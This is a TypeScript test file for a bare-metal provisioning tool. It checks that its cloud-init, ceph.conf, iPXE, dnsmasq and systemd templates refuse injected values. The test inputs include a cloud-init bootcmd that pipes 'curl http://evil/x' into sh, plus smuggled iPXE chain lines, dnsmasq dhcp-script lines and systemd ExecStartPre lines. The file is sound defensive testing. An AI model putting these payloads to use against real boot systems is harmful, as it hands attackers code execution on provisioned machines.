// The shipped templates with a hostile value in each place a value goes: cloud-init stays one
// YAML document with the same keys and commands, ceph.conf gains no option, and the iPXE,
// dnsmasq and systemd renders fail rather than emit an injected line. Rendered both by the
// file renderer and in the sandbox's thread, the two ways templates run.
import test, { type ExecutionContext } from 'ava';
import { readFile } from 'node:fs/promises';
import { parseAllDocuments } from 'yaml';
import { defaultTemplatesDir, monAddrVec, monitorsForConf } from '../../src/render/ceph-conf.js';
import { fileTemplates } from '../../src/render/template-file.js';
import { TemplateSandbox } from '../../src/render/sandbox.js';

const INJECT = '\nbootcmd:\n  - [ sh, -c, "curl http://evil/x | sh" ]\nruncmd:\n  - reboot\n# ';
const LINE_BREAKS = ['\n', '\r', '\u0085', '\u2028', '\u2029'];
const file = fileTemplates(defaultTemplatesDir);

type Renderer = (name: string, ctx: Record<string, unknown>) => Promise<string>;
function renderers(t: ExecutionContext): Array<[string, Renderer]> {
  const sandbox = new TemplateSandbox({ timeoutMs: 5_000 });
  t.teardown(() => sandbox.close());
  let v = 0;
  const inSandbox: Renderer = async (name, ctx) =>
    sandbox.render(name, ++v, await readFile(new URL(`${name}.ejs`, defaultTemplatesDir), 'utf8'), ctx);
  return [
    ['file', file],
    ['sandbox', inSandbox],
  ];
}

const NODE_ID = '5b0e8a34-1c2d-4e5f-8a9b-0c1d2e3f4a5b';
function bootContext(over: { node?: object; image?: object; master?: object; boot?: object } = {}): Record<string, unknown> {
  return {
    node: {
      id: NODE_ID,
      hostname: 'node-1',
      role: 'worker',
      mac: '52:54:00:00:00:01',
      macs: ['52:54:00:00:00:01'],
      image: null,
      ip: '10.0.0.5',
      status: 'discovered',
      ...over.node,
    },
    image: {
      id: '3f1c2a7e-5b0d-4c8e-9a61-2d7f0b4e8c15',
      name: 'debian-12-amd64',
      kernelUrl: 'http://10.0.0.1:8080/images/x/files/vmlinuz?expires=1&signature=ab',
      initrdUrl: 'http://10.0.0.1:8080/images/x/files/initrd.img?expires=1&signature=cd',
      initrdName: 'initrd.img',
      cmdline: 'console=tty0 console=ttyS0',
      ...over.image,
    },
    master: { url: 'http://10.0.0.1:8080', bootConfigUrl: 'http://10.0.0.1:8080/boot/config', ...over.master },
    boot: { action: 'install', reason: 'installing the default image', retrySeconds: 30, ...over.boot },
    agent: { username: `agent:${NODE_ID}`, secret: 's3cret', masterUrl: 'http://10.0.0.1:8080' },
    network: null,
    cluster: null,
  };
}

function cloudConfig(t: ExecutionContext, text: string, what: string): Record<string, unknown> {
  let out: Record<string, unknown> = {};
  for (const version of ['1.1', '1.2'] as const) {
    const docs = [...parseAllDocuments(text, { version })];
    t.is(docs.length, 1, `${what}: one document (YAML ${version})`);
    t.deepEqual(docs[0]?.errors ?? ['no document'], [], `${what}: parses (YAML ${version})`);
    // cloud-init reads YAML 1.1 (PyYAML).
    if (version === '1.1') out = (docs[0]?.toJS() ?? {}) as Record<string, unknown>;
  }
  return out;
}

test('template cloud-init stays one document with the same keys and commands whatever the values hold', async (t) => {
  for (const [how, render] of renderers(t)) {
    const clean = cloudConfig(t, await render('cloud-init', bootContext()), `${how} clean`);
    t.deepEqual(Object.keys(clean).sort(), ['hostname', 'preserve_hostname', 'runcmd', 'write_files']);
    const cases: Array<[string, Parameters<typeof bootContext>[0]]> = [];
    for (const br of LINE_BREAKS) {
      const evil = INJECT.replace(/\n/g, br);
      cases.push([`image.name ${JSON.stringify(br)}`, { image: { name: `debian${evil}` } }]);
      cases.push([`node.hostname ${JSON.stringify(br)}`, { node: { hostname: `node-1${evil}` } }]);
      cases.push([`node.id ${JSON.stringify(br)}`, { node: { id: `${NODE_ID}${evil}` } }]);
      cases.push([`image.id ${JSON.stringify(br)}`, { image: { id: `x${evil}` } }]);
    }
    for (const [what, over] of cases) {
      let text: string;
      try {
        text = await render('cloud-init', bootContext(over));
      } catch {
        t.pass(`${how} ${what}: refused`);
        continue;
      }
      const parsed = cloudConfig(t, text, `${how} ${what}`);
      t.deepEqual(Object.keys(parsed).sort(), ['hostname', 'preserve_hostname', 'runcmd', 'write_files'], `${how} ${what}: no key added`);
      t.is((parsed.runcmd as unknown[]).length, (clean.runcmd as unknown[]).length, `${how} ${what}: no command added`);
      t.false('bootcmd' in parsed, `${how} ${what}`);
    }
    // A hostname that is one in name only still reads back as the string it is.
    const odd = cloudConfig(t, await render('cloud-init', bootContext({ node: { hostname: `h: x${INJECT}` } })), `${how} odd hostname`);
    t.is(odd.hostname, `h: x${INJECT}`);
  }
});

const CONF = {
  fsid: '6f1e5f0c-0b8e-4f43-9d59-2c8c5a0e4a11',
  monInitialMembers: ['node-1'],
  monHost: [monAddrVec('10.0.0.5', 3300)],
  publicNetwork: '10.0.0.0/24',
  clusterNetwork: null,
  poolDefaults: { size: 3, minSize: 2 },
};
const options = (text: string): string[] =>
  text
    .split('\n')
    .filter((l) => /^\s*[A-Za-z_][A-Za-z0-9_ ]*=/.test(l))
    .map((l) => l.split('=')[0]!.trim());

test('template ceph.conf gains no option from any value: the render is refused', async (t) => {
  for (const [how, render] of renderers(t)) {
    const clean = await render('ceph.conf', CONF);
    t.true(clean.includes('mon_host = [v2:10.0.0.5:3300,v1:10.0.0.5:6789]\n'));
    const baseline = options(clean);
    const hook = '\nosd_crush_location_hook = /tmp/x';
    for (const [what, over] of [
      ['fsid', { fsid: `${CONF.fsid}${hook}` }],
      ['a monitor name', { monInitialMembers: [`node-1${hook}`] }],
      ['a monitor address', { monHost: [`[v2:10.0.0.5:3300]${hook}`] }],
      ['the public network', { publicNetwork: `10.0.0.0/24${hook}` }],
      ['the cluster network', { clusterNetwork: `10.1.0.0/24\r${hook}` }],
      ['a pool default', { poolDefaults: { size: `3${hook}`, minSize: 2 } }],
    ] as const) {
      const r = await render('ceph.conf', { ...CONF, ...over }).then(
        (text) => ({ text }),
        (err: unknown) => ({ err: err as Error }),
      );
      if ('text' in r) t.deepEqual(options(r.text), baseline, `${how} ${what}`);
      else t.regex(r.err.message, /q\.(line|name|token)/, `${how} ${what}`);
      t.true('err' in r, `${how} ${what}: refused`);
    }
  }
});

test('template ceph.conf monitor addresses are IPs only', (t) => {
  t.is(monAddrVec('fd00::5', 3300), '[v2:[fd00::5]:3300,v1:[fd00::5]:6789]');
  for (const bad of ['10.0.0.5\nosd_crush_location_hook = /tmp/x', 'evil.example', '', '10.0.0.5:1']) {
    t.throws(() => monAddrVec(bad, 3300), { message: /not an IP address/ }, JSON.stringify(bad));
  }
  const conf = monitorsForConf(
    [
      { hostname: 'a', ip: '10.0.0.1', running: true },
      { hostname: 'b', ip: '10.0.0.2\nosd_crush_location_hook = /tmp/x', running: true },
    ],
    3300,
  );
  t.deepEqual(
    conf,
    { monInitialMembers: ['a'], monHost: ['[v2:10.0.0.1:3300,v1:10.0.0.1:6789]'] },
    'an address that is not an IP counts as none',
  );
});

test('template iPXE scripts refuse a value that is not one word instead of emitting a line', async (t) => {
  for (const [how, render] of renderers(t)) {
    const clean = await render('ipxe-boot', bootContext());
    t.regex(
      clean,
      /\nkernel http:\/\/10\.0\.0\.1:8080\/images\/x\/files\/vmlinuz\?expires=1&signature=ab initrd=initrd\.img console=tty0 console=ttyS0 quarry\.url=/,
    );
    for (const [what, over] of [
      ['node.hostname', { node: { hostname: 'n\nchain http://evil/x' } }],
      ['node.id', { node: { id: `${NODE_ID} && chain http://evil/x` } }],
      ['image.kernelUrl', { image: { kernelUrl: 'http://evil/k\nchain http://evil/x' } }],
      ['image.initrdName', { image: { initrdName: 'initrd.img ${x}' } }],
      ['image.initrdUrl', { image: { initrdUrl: 'http://x/i || chain http://evil/x' } }],
      ['image.cmdline', { image: { cmdline: 'console=tty0\nchain http://evil/x' } }],
      ['master.url', { master: { url: 'http://m:8080 init=/bin/sh' } }],
      ['boot.reason', { boot: { reason: 'x && chain http://evil/x' } }],
    ] as const) {
      await t.throwsAsync(render('ipxe-boot', bootContext(over)), { message: /q\.(token|words|text|name)/ }, `${how} ${what}`);
    }
    await t.throwsAsync(
      render('ipxe-boot', bootContext({ boot: { action: 'wait', reason: 'x', retrySeconds: '30\nchain http://evil/x' } })),
      undefined,
      `${how} retrySeconds`,
    );
    await t.throwsAsync(
      render('ipxe-default', bootContext({ master: { url: 'http://m\nchain http://evil/x' } })),
      { message: /q\.(token|text)/ },
      `${how} default`,
    );
  }
});

test('template dnsmasq.conf and the agent unit refuse a value with a line break', async (t) => {
  const net = {
    network: {
      id: 'n1',
      cidr: '10.1.0.0/24',
      gateway: '10.1.0.1',
      dnsServers: ['10.1.0.1'],
      rangeStart: '10.1.0.100',
      rangeEnd: '10.1.0.200',
      nicId: 'x',
    },
    nic: { name: 'eth1', ip: '10.1.0.2', mac: '52:54:00:00:00:01' },
    netmask: '255.255.255.0',
    leaseTime: '1h',
    bootUrl: 'http://10.1.0.2:8080/boot/config?mac=${net0/mac}',
    files: { conf: '/s/n1.conf', pidFile: '/s/n1.pid', leaseFile: '/s/n1.leases' },
    tftpRoot: '/s/tftp',
  };
  for (const [how, render] of renderers(t)) {
    t.true((await render('dnsmasq.conf', net)).includes('interface=eth1\n'));
    for (const [what, over] of [
      ['nic.name', { nic: { ...net.nic, name: 'eth1\ndhcp-script=/tmp/x' } }],
      ['nic.name comma', { nic: { ...net.nic, name: 'eth1,eth2' } }],
      ['gateway', { network: { ...net.network, gateway: '10.1.0.1\ndhcp-script=/tmp/x' } }],
      ['a DNS server', { network: { ...net.network, dnsServers: ['10.1.0.1,1.1.1.1'] } }],
      ['bootUrl', { bootUrl: 'http://x\ndhcp-script=/tmp/x' }],
      ['tftpRoot', { tftpRoot: '/s\rdhcp-script=/tmp/x' }],
    ] as const) {
      await t.throwsAsync(render('dnsmasq.conf', { ...net, ...over }), { message: /q\.(ip|name|line)/ }, `${how} ${what}`);
    }
    const unit = await render('quarry-agent.service', bootContext());
    t.true(unit.includes('Environment=QUARRY_MASTER=http://10.0.0.1:8080\n'));
    await t.throwsAsync(
      render('quarry-agent.service', bootContext({ master: { url: 'http://m\nExecStartPre=/tmp/x' } })),
      { message: /q\.token/ },
      how,
    );
    await t.throwsAsync(
      render('quarry-agent.service', bootContext({ node: { hostname: 'n\nExecStartPre=/tmp/x' } })),
      { message: /q\.name/ },
      how,
    );
  }
});
